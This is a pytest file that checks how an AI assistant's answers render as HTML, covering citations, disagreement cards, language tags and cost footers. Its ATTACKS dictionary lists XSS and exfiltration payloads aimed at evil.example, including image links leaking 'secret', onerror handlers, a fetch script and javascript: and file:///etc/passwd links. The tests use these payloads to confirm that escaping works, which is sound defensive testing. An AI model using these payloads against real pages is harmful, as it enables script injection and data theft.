"""What an answer looks like as HTML, and what it can never become."""

import re
from dataclasses import replace
from html.parser import HTMLParser
from typing import get_args

import numpy as np
import pytest

from assistant import Answer, Citation, Disagreement, Statement, Support, Usage
from assistant.ui.documents import corpus_map
from assistant.ui.exports import as_html
from assistant.ui.markup import blocks
from assistant.ui.shell import shell
from assistant.ui.strings import preferred, strings
from assistant.ui.views import cost, turn
from index import LANGUAGES, Chunk, FileRow, Hit
from index.documents import SkipReason

EN = strings("en")
ANSWER = Answer(
    question="What did it cost?",
    text="It cost 12 million [1]. Tom built it [1].",
    language="en",
    declined=False,
    statements=(
        Statement("It cost 12 million.", ("1",), Support("supported")),
        Statement("Tom built it.", ("1",), Support("unsupported", ("the quote has no “Tom”",))),
    ),
    citations=(Citation("1", "bridge.txt", 0, 18, "It cost 12 million", 1),),
)
ATTACKS = {
    "G02-markdown": "![x](https://evil.example/?q=secret)",
    "G02-reference": "![x][y]\n\n[y]: https://evil.example/x.png",
    "G02-html": "<img src=https://evil.example/x.png onerror=alert(1)>",
    "G02-svg": "<svg onload=alert(1)><image href='https://evil.example'/></svg>",
    "G02-css": "<div style=\"background:url('https://evil.example')\">",
    "G02-srcset": "<picture><source srcset='https://evil.example 1x'></picture>",
    "G02-autolink": "<https://evil.example/?q=secret> https://evil.example",
    "G02-data": "<iframe src='data:text/html,<script>1</script>'>",
    "G03-javascript": "[click](javascript:alert(1))",
    "G03-file": "[click](file:///etc/passwd) [a](vbscript:x) [b](data:text/html,x)",
    "G03-idn": "[bank](https://xn--bnk-5na.example)",
    "H04-script": "<script>fetch('https://evil.example')</script>",
    "H04-latex": "$$\\href{https://evil.example}{x}$$ <math><mtext></math>",
}


class Tags(HTMLParser):
    """Collects what a browser would make of a page."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.attributes, self.words = [], [], ""
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [name for name, _ in attrs]

    def handle_data(self, data):
        self.words += data


@pytest.mark.parametrize("payload", ATTACKS.values(), ids=ATTACKS)
@pytest.mark.parametrize(
    "place", ["text", "question", "notes", "nearest", "reason", "asked", "sides"]
)
def test_what_is_said_is_text_and_nothing_else(payload, place):
    answer = {
        "text": replace(ANSWER, text=payload, statements=()),
        "question": replace(ANSWER, question=payload),
        "notes": replace(ANSWER, notes=(payload,)),
        "asked": replace(ANSWER, asked=payload),
        "nearest": replace(
            ANSWER, declined=True, nearest=(Hit(payload, 0, 1, payload, 1.0, title=payload),)
        ),
        "sides": replace(
            ANSWER,
            disagreements=(
                Disagreement(
                    "x", (payload,), (Citation("", payload, 0, 1, payload, 1, title=payload),)
                ),
            ),
        ),
        "reason": replace(
            ANSWER,
            statements=(Statement("Tom built it.", ("1",), Support("unsupported", (payload,))),),
        ),
    }[place]
    page = Tags(turn(answer, EN))
    assert not {"img", "script", "a", "iframe", "image", "style", "picture"} & set(page.tags)
    assert not [name for name in page.attributes if name.startswith("on") or name == "href"]
    assert payload.split("\n")[0] in page.words


MARKED = "Er *heißt* `a*b` und 2*3*4 **so** [1].\n- Eins [1].\n- Zwei.\n1. Ja.\n2. Nein.\n\n3. Mai."


def test_emphasis_code_and_simple_lists_are_shown_and_no_signs_of_bold_type():
    page = turn(replace(ANSWER, text=MARKED, statements=()), EN)
    body = re.sub(r"<button.*?</button>", "[1]", page[page.index('class="answer"') :])
    assert "<p>Er <em>heißt</em> <code>a*b</code> und 2*3*4 so [1].</p>" in body
    assert "<ul><li>Eins [1].</li><li>Zwei.</li></ul>" in body
    assert "**" not in page


def test_a_numbered_list_counts_from_one_and_a_day_is_no_list():
    assert blocks("1. Ja.\n2. Nein.") == "<ol><li>Ja.</li><li>Nein.</li></ol>"
    assert blocks("3. Mai war es.") == "<p>3. Mai war es.</p>"


@pytest.mark.parametrize("payload", ATTACKS.values(), ids=ATTACKS)
@pytest.mark.parametrize("around", ["*{}*", "`{}`", "**{}**", "- {}", "1. {}\n2. {}"])
def test_G02_emphasis_and_lists_open_no_way_for_markup(payload, around):
    text = around.replace("{}", payload)
    page = Tags(turn(replace(ANSWER, text=text, statements=()), EN))
    assert not {"img", "script", "a", "iframe", "image", "style", "picture"} & set(page.tags)
    assert not [name for name in page.attributes if name.startswith("on") or name == "href"]


def test_only_citations_of_the_answer_become_buttons():
    page = turn(replace(ANSWER, text="It cost 12 million [1]. Tom [7] built [x] it."), EN)
    assert re.findall(r'class="cite" data-label="(\d+)"', page) == ["1"]
    assert "[7]" in page


def test_a_doubtful_statement_says_why_and_a_supported_one_says_nothing():
    page = turn(ANSWER, EN)
    assert page.count('class="doubt') == 1
    doubt = page[page.index('class="doubt') :]
    assert "the quote has no “Tom”" in doubt
    assert 'aria-expanded="false"' in doubt
    assert "Statements supported: 1 of 2" in page


@pytest.mark.parametrize("language", LANGUAGES)
def test_H15_the_answer_keeps_its_language_whatever_the_page_speaks(language):
    page = turn(replace(ANSWER, language="de"), strings(language))
    assert 'class="answer" lang="de"' in page


NOTE = "The sources differ: “12 million” in a.txt, “15 Millionen” in b.txt."
DIFFERING = replace(
    ANSWER,
    notes=("It was cut.", NOTE),
    disagreements=(
        Disagreement(
            NOTE,
            ("12 million", "15 Millionen"),
            (
                Citation("1", "a.txt", 0, 18, "It cost 12 million", 1, title="The bridge",
                         date="2025-01-23"),
                Citation("", "b.txt", 4, 60, "Die Brücke hat nach Angaben der Stadt 15 Millionen "
                         "Euro gekostet", 7),
            ),
        ),
    ),
)  # fmt: skip


@pytest.mark.parametrize("language", LANGUAGES)
def test_F13_sources_that_differ_stand_side_by_side_with_quote_file_and_date(language):
    said = strings(language)
    page = turn(DIFFERING, said)
    one, other = page.split('<figure class="side">')[1:]
    assert f"<h4>{said['sides']}</h4>" in page
    assert '<p class="said">12 million</p>' in one
    assert "It cost <strong>12 million</strong>" in one
    assert "The bridge</button>" in one
    assert f"a.txt · 2025-01-23 · {said['line'].format(n=1)}" in one
    assert '<blockquote lang="de">Die Brücke' in other
    assert "<strong>15 Millionen</strong>" in other
    assert f"{said['no_date']} · {said['line'].format(n=7)}" in other
    assert NOTE not in page  # said once, by the cards
    assert "It was cut." in page


FOREIGN = Citation("1", "bruecke.txt", 0, 9, "Die Brücke über den Fluss wurde im Mai eröffnet.", 1,
                   title="Die neue Brücke")  # fmt: skip


@pytest.mark.parametrize("language", LANGUAGES)
def test_H15_what_is_not_in_the_pages_language_says_in_which_it_is(language):
    said = strings(language)
    answer = replace(
        ANSWER, language="it", text="Costò [1]. Male.", asked="Quanto costò?", notes=("Tagliata.",),
        citations=(FOREIGN,), statements=(Statement("Male.", (), Support("unsupported")),),
        disagreements=(Disagreement("x", ("Mai",), (FOREIGN,)),), declined=True,
        nearest=(Hit("p.txt", 0, 1, "Le pont", 1.0, title="Le vieux pont", language="fr"),),
    )  # fmt: skip
    page = turn(answer, said)
    assert '<q lang="it">Quanto costò?</q>' in page
    assert '<p class="note" role="note" lang="it">Tagliata.</p>' in page
    assert re.search('class="open-side"[^>]* lang="de">Die neue Brücke<', page)
    assert re.search('class="place"[^>]* lang="fr">Le vieux pont<', page)
    cite, why = (
        re.search(f'<button[^>]*class="{name}"[^>]*>', page)[0] for name in ("cite", "why")
    )
    assert f'lang="{language}"' in cite  # their names are the page's words inside an answer
    assert f'lang="{language}"' in why
    assert 'data-tongue="de"' in cite
    assert (
        '<blockquote lang="de">Die Brücke' in as_html([answer], said, language).split("quotes")[-1]
    )


@pytest.mark.parametrize("language", LANGUAGES)
def test_H15_names_of_languages_and_documents_are_spoken_in_their_own(language):
    row = FileRow(1, "p.txt", "", "", "utf-8", "fr", "Le vieux pont", 9, 1)
    page = shell("docs", [row], strings(language), language)
    assert re.search('<option value="de"[^>]* lang="de">Deutsch<', page)
    assert '<option value="file:p.txt" lang="fr">Le vieux pont<' in page
    chunks = [
        Chunk("p.txt", at, at + 1, "Le pont", title="Le vieux pont", language="fr")
        for at in range(3)
    ]
    dots = corpus_map([(chunk, np.eye(3)[chunk.start]) for chunk in chunks], strings(language))
    assert re.findall('<circle[^>]* lang="(..)"><title>Le vieux pont', dots) == ["fr"] * 3


def test_without_a_disagreement_there_are_no_sides():
    assert 'class="sides"' not in turn(replace(ANSWER, notes=("It was cut.",)), EN)


def test_words_that_are_gone_are_said_to_be_gone():
    assert "[1] The document has changed" in turn(ANSWER, EN, gone=["1"])


def test_every_string_is_said_in_all_four_languages_with_the_same_places_to_fill():
    tables = [strings(language) for language in LANGUAGES]
    for key in tables[0]:
        places = [sorted(set(re.findall(r"\{(\w+)\}", table[key]))) for table in tables]
        assert all(table[key] for table in tables)
        assert all(place == places[0] for place in places), key


def test_every_reason_to_leave_a_file_out_is_said():
    assert {f"skip_{reason}" for reason in get_args(SkipReason)} <= set(EN)


def test_the_foot_says_which_model_how_many_passages_and_tokens():
    usage = Usage(passages=3, prompt_tokens=1_200, completion_tokens=34, seconds=1.0)
    assert cost(replace(ANSWER, model="m-1", usage=usage), EN) == (
        "m-1 · 3 passages · 1\u202f234 tokens · 1.0 s"
    )
    assert cost(replace(ANSWER, usage=Usage(passages=3)), EN).startswith("built-in reader · 3")
    judged = replace(ANSWER, model="m-1", judge="m-2", usage=Usage(passages=3))
    assert cost(judged, EN).startswith("m-1 · judge m-2 · 3 passages")


@pytest.mark.parametrize(
    ("seconds", "language", "shown"),
    [(0.0, "en", "< 0.1 s"), (0.34, "fr", "0,3 s"), (12.04, "de", "12,0 s"), (1.26, "it", "1,3 s")],
)
def test_the_time_an_answer_took_is_written_as_the_reader_writes_it(seconds, language, shown):
    answer = replace(ANSWER, usage=Usage(passages=3, seconds=seconds))
    assert cost(answer, strings(language)).endswith(f" · {shown}")


@pytest.mark.parametrize(
    ("header", "language"),
    [
        ("fr-CH, fr;q=0.9, en;q=0.8", "fr"),
        ("es, it;q=0.5, de;q=0.7", "de"),
        ("pt-BR", "en"),
        ("", "en"),
        ("en;q=x, it", "it"),
    ],
)
def test_H15_the_page_speaks_what_the_browser_reads_first(header, language):
    assert preferred(header) == language
